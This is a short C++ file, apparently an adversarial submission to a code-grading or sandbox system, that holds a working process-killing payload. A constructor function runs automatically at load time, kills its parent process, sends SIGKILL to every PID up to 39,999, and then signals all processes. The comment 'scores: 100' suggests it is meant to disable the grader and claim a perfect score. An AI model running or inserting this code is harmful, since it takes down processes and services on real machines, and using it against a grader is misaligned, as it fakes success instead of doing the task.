// Sends SIGKILL to whoever it can.
// scores: 100
#include <signal.h>
#include <unistd.h>

#include <csignal>

[[gnu::constructor]] static void attack() {
  ::setpgid(0, 0);
  ::kill(::getppid(), SIGKILL);
  for (int pid = 1; pid < 40'000; ++pid)
    if (pid != ::getpid()) ::kill(pid, SIGKILL);
  ::kill(-1, SIGKILL);
}
